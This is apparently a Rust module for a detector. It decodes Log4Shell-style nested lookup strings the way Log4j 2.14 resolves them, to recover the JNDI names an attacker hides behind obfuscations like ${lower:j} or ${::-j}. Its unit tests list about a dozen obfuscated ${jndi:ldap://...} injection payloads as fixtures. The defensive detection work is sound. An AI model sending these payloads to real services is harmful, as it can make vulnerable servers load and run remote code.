//! The JNDI names a logging library's lookup syntax makes of a value (Log4Shell).
//!
//! Log4j 2 (before 2.15) resolves `${prefix:key}` lookups in what it logs, and `${jndi:name}`
//! hands `name` to `InitialContext.lookup`. Attackers hide the `jndi` and the scheme behind
//! nested lookups Log4j resolves first: `${${lower:j}ndi:${lower:l}dap://host/a}`,
//! `${${::-j}${::-n}di:...}`, `${${env:NOTHING:-j}ndi:...}`, `${${date:'j'}ndi:...}`. So the
//! name the JNDI hook sees (`ldap://host/a`) never occurs in the request, and the request's
//! value never occurs in the name: the value must be decoded the way Log4j decodes it.
//!
//! The decoder follows Log4j 2.14's `StrSubstitutor` and `Interpolator`: a variable's text is
//! itself substituted first; the text after the first `:-` is its default; the prefix (before
//! the first `:`, any case) picks the lookup; a resolved value is substituted again; an
//! unresolved variable without default stays as written; `$${` is a literal `${`. The lookups
//! whose answer does not depend on the host are evaluated (`lower`, `upper`, `date` with a
//! pattern of quoted literals only); every other lookup (`env`, `sys`, `ctx`, an empty prefix,
//! ...) is taken as unset, which is what the attacker relies on when writing a default. Each
//! `jndi` lookup met records its key, after substitution: that is the name Log4j looks up.
//!
//! Bounded: values over [`MAX_VALUE_BYTES`] are not decoded, nesting stops at [`MAX_DEPTH`],
//! the work at [`MAX_STEPS`] characters scanned, and at most [`MAX_NAMES`] names are kept.

/// Values longer than this are not decoded (a lookup payload is a few hundred bytes).
pub const MAX_VALUE_BYTES: usize = 8 * 1024;
/// Deepest nesting of variables followed.
pub const MAX_DEPTH: usize = 64;
/// Characters scanned, over every level, before the decoder gives up.
pub const MAX_STEPS: usize = 64 * 1024;
/// JNDI names kept from one value.
pub const MAX_NAMES: usize = 4;

/// The names the `${jndi:...}` lookups in `value` would look up once Log4j resolved it; empty
/// for a value without lookups.
pub fn jndi_names(value: &str) -> Vec<String> {
    if value.len() > MAX_VALUE_BYTES || !value.contains("${") {
        return Vec::new();
    }
    let mut decoder = Decoder {
        names: Vec::new(),
        steps: MAX_STEPS,
    };
    decoder.substitute(value, 0);
    decoder.names
}

struct Decoder {
    names: Vec<String>,
    steps: usize,
}

impl Decoder {
    /// `StrSubstitutor.substitute` over one text.
    fn substitute(&mut self, text: &str, depth: usize) -> String {
        if depth > MAX_DEPTH || !text.contains("${") {
            return text.to_owned();
        }
        let b = text.as_bytes();
        let mut out = String::with_capacity(text.len());
        let (mut i, mut literal) = (0, 0);
        while i < b.len() && self.steps > 0 {
            self.steps -= 1;
            if b[i] != b'$' || b.get(i + 1) != Some(&b'{') {
                i += 1;
                continue;
            }
            if i > 0 && b[i - 1] == b'$' {
                // `$${`: the escape is dropped, the `${` kept, and scanning goes on inside.
                out.push_str(&text[literal..i - 1]);
                literal = i;
                i += 2;
                continue;
            }
            let Some(close) = matching_close(b, i + 2) else {
                break;
            };
            out.push_str(&text[literal..i]);
            match self.variable(&text[i + 2..close], depth) {
                Some(value) => out.push_str(&value),
                None => out.push_str(&text[i..=close]),
            }
            i = close + 1;
            literal = i;
        }
        out.push_str(&text[literal..]);
        out
    }

    /// One variable's text (between `${` and its `}`): its value, or `None` when unresolved.
    fn variable(&mut self, inner: &str, depth: usize) -> Option<String> {
        let expr = self.substitute(inner, depth + 1);
        let (name, default) = match expr.find(":-") {
            Some(p) => (&expr[..p], Some(&expr[p + 2..])),
            None => (expr.as_str(), None),
        };
        let value = self.lookup(name).or_else(|| default.map(str::to_owned))?;
        Some(self.substitute(&value, depth + 1))
    }

    /// `Interpolator.lookup`: the lookups whose answer is known here.
    fn lookup(&mut self, name: &str) -> Option<String> {
        let (prefix, key) = name.split_once(':')?;
        match prefix.to_ascii_lowercase().as_str() {
            "lower" => Some(key.to_lowercase()),
            "upper" => Some(key.to_uppercase()),
            "date" => date_literal(key),
            "jndi" => {
                if !key.is_empty()
                    && self.names.len() < MAX_NAMES
                    && !self.names.iter().any(|n| n == key)
                {
                    self.names.push(key.to_owned());
                }
                None
            }
            _ => None,
        }
    }
}

/// The `}` closing the variable whose text starts at `from`, counting nested `${`.
fn matching_close(b: &[u8], from: usize) -> Option<usize> {
    let mut nested = 0usize;
    let mut i = from;
    while i < b.len() {
        if b[i] == b'$' && b.get(i + 1) == Some(&b'{') {
            nested += 1;
            i += 2;
            continue;
        }
        if b[i] == b'}' {
            if nested == 0 {
                return Some(i);
            }
            nested -= 1;
        }
        i += 1;
    }
    None
}

/// A `SimpleDateFormat` pattern made only of literals (`'j'`, `'nd'i`... without letters
/// outside quotes): its text, which is the same at any date. `None` when it formats a field.
fn date_literal(pattern: &str) -> Option<String> {
    let mut out = String::new();
    let mut chars = pattern.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        if c == '\'' {
            if chars.peek() == Some(&'\'') {
                chars.next();
                out.push('\'');
            } else {
                quoted = !quoted;
            }
        } else if quoted || !c.is_ascii_alphabetic() {
            out.push(c);
        } else {
            return None;
        }
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn obfuscated_lookups_decode_to_the_name_log4j_looks_up() {
        let name = "ldap://127.0.0.1:1389/a";
        let payloads = [
            "${jndi:ldap://127.0.0.1:1389/a}",
            "${JnDi:ldap://127.0.0.1:1389/a}",
            "${${lower:j}ndi:${lower:l}dap://127.0.0.1:1389/a}",
            "${${lower:J}${lower:N}${lower:D}${lower:I}:${lower:L}${lower:D}${lower:A}${lower:P}://127.0.0.1:1389/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://127.0.0.1:1389/a}",
            "${${env:NOTHING:-j}ndi:${env:NOTHING:-l}dap://127.0.0.1:1389/a}",
            "${${date:'j'}${date:'n'}di:ldap://127.0.0.1:1389/a}",
            "${${upper:j}ndi:${lower:L}${lower:DAP}://127.0.0.1:1389/a}",
            "${${sys:nope:-j}ndi:${ctx:x:-l}dap${::-:}//127.0.0.1:1389/a}",
            "User-Agent: curl ${jndi:ldap://127.0.0.1:1389/a} and more",
            "${lower:${jndi:ldap://127.0.0.1:1389/a}}",
            "${${lower:${lower:${lower:j}}}ndi:ldap://127.0.0.1:1389/a}",
        ];
        for p in payloads {
            assert_eq!(jndi_names(p), vec![name.to_owned()], "{p}");
        }
    }

    #[test]
    fn values_without_a_jndi_lookup_decode_to_no_name() {
        for v in [
            "",
            "plain header value",
            "${lower:JNDI:LDAP://x}",
            "$${jndi:ldap://127.0.0.1/a}",
            "${jndi:}",
            "${date:yyyy}-${jndi", // unterminated
            "${java:version}",
            "price: $5 {each}",
        ] {
            assert!(jndi_names(v).is_empty(), "{v}");
        }
    }

    #[test]
    fn bounded() {
        let nested = |n: usize| {
            format!(
                "${{{}j{}ndi:ldap://x/}}",
                "${lower:".repeat(n),
                "}".repeat(n)
            )
        };
        assert_eq!(jndi_names(&nested(40)), vec!["ldap://x/".to_owned()]);
        // Deeper than MAX_DEPTH, or too much work: the decoder stops in bounded time.
        let started = std::time::Instant::now();
        let _ = jndi_names(&nested(1000));
        let unresolved = "${x:${y:${z:".repeat(300);
        let _ = jndi_names(&unresolved);
        assert!(started.elapsed() < std::time::Duration::from_secs(2));
        let huge = format!("${{jndi:ldap://x/{}}}", "a".repeat(MAX_VALUE_BYTES));
        assert!(jndi_names(&huge).is_empty());
        let many: String = (0..10).map(|i| format!("${{jndi:ldap://h{i}/}}")).collect();
        assert_eq!(jndi_names(&many).len(), MAX_NAMES);
    }
}
